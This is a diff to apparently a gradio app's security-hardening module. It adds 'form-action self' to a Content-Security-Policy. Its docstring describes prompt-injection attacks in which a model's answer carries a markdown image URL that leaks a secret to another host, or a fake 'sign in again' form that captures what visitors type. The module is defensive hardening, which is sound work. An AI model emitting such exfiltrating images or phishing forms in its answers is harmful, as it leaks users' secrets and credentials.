@@ -3,7 +3,9 @@
 - A Content-Security-Policy that lets the page load images and media only from the app (and
   `data:`/`blob:` URLs, which go nowhere): an answer talked into showing
   `![](https://elsewhere/?q=<secret>)` cannot make the visitor's browser send anything to
-  another host. Scripts and styles are left to gradio, whose page relies on inline ones.
+  another host; forms post only to the app (gradio's sanitizer keeps a `<form>` in an answer:
+  a prompt injection's "sign in again" form must not send what a visitor types elsewhere).
+  Scripts and styles are left to gradio, whose page relies on inline ones.
 - Cookies `SameSite=Lax`: gradio sets its sign-in cookie `SameSite=None`, which a foreign
   site's requests would carry.
 - CORS closed: gradio answers any `Origin` with credentials when the Host is not localhost,
@@ -16,7 +18,8 @@ from collections.abc import Callable
 from typing import Any
 
 CONTENT_SECURITY_POLICY = (
-    "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'; base-uri 'self'"
+    "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'; "
+    "base-uri 'self'; form-action 'self'"
 )
 
 
